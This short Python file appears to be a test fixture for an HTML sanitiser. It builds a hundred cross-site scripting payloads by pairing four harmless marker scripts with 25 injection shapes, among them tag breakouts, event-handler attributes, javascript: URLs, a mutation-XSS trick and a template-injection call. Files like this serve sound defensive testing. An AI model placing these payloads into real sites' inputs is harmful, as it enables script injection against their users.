"""A hundred texts that would run a script where a page took them for more than words."""

SCRIPTS = ("alert(1)", "window.executed=1", "document.title=1", "top.executed=1")
SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<img src=x onerror={}>",
    '" onfocus="{}" autofocus="',
    "' onmouseover='{}' x='",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<details open ontoggle={}>",
    "<a href=javascript:{}>甲</a>",
    "javascript:{}//",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</option></select><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<style>@import'javascript:{}';</style>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<object data=javascript:{}></object>",
    "{{{{constructor.constructor('{}')()}}}}",
)
PAYLOADS = tuple(shape.format(script) for script in SCRIPTS for shape in SHAPES)
